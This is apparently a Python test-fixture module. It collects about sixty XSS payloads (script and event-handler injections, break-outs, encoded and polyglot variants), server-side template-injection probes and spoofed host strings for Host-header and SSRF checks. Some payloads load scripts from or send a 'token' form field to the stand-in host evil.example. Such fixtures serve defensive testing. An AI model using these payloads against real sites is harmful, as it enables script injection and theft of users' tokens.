"""Texts that want to run in a browser, names that are not ours, and forms that were sent from elsewhere."""

from __future__ import annotations

_SCRIPTS = (
    "<script>document.title='owned'</script>",
    "<ScRiPt>document.title='owned'</sCrIpT>",
    "<script/src=//evil.example/x>",
    "<svg onload=document.title='owned'>",
    "<svg/onload=document.title='owned'//",
    "<img src=x onerror=document.title='owned'>",
    "<img src=x:x onerror\n=document.title='owned'>",
    "<body onload=document.title='owned'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<a href=javascript:alert(1)>go</a>",
    "<a href='java\tscript:alert(1)'>go</a>",
    "<form action=//evil.example><input name=token>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=document.title='owned'>",
    "<input autofocus onfocus=document.title='owned'>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>document.title='owned'</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
)
_BREAK_OUTS = (
    "\"><script>document.title='owned'</script>",
    "'><img src=x onerror=document.title='owned'>",
    "\" onmouseover=\"document.title='owned'",
    "' autofocus onfocus='document.title=1",
    "</title><script>document.title='owned'</script>",
    "</textarea><svg onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</p></article></main><script>alert(1)</script>",
    '\\"><script>alert(1)</script>',
    "\u2028<script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
)
_TEMPLATES = (
    "{{7*7}}",
    "{% import os %}{{os}}",
    "{{ ''.__class__ }}",
    "${7*7}",
    "#{7*7}",
    "{{config}}",
    "<%= 7*7 %>",
)
_ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<script>alert(1)</script>\u202c",
    "\u200b<script>alert(1)</script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/"
    "(alert(1))//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>",
)

XSS = (*_SCRIPTS, *_BREAK_OUTS, *_TEMPLATES, *_ENCODED)
assert len(XSS) >= 60

HOSTS = (
    "evil.example",
    "evil.example:8080",
    "127.0.0.1.evil.example",
    "localhost.evil.example",
    "evil.example#127.0.0.1",
    "127.0.0.1@evil.example",
    "127.0.0.1:8080@evil.example",
    "127.0.0.1,evil.example",
    "127.0.0.1 evil.example",
    "0.0.0.0",
    "0x7f.0.0.1",
    "2130706433",
    "127.1",
    "127.0.0.2",
    "[::ffff:127.0.0.1]",
    "localhost.",
    "LOCALHOST.EVIL.EXAMPLE",
    "xn--localhost",
    "127.0.0.1:",
    "127.0.0.1:999999",
    "[::1",
    "http://127.0.0.1",
)
assert len(HOSTS) >= 20
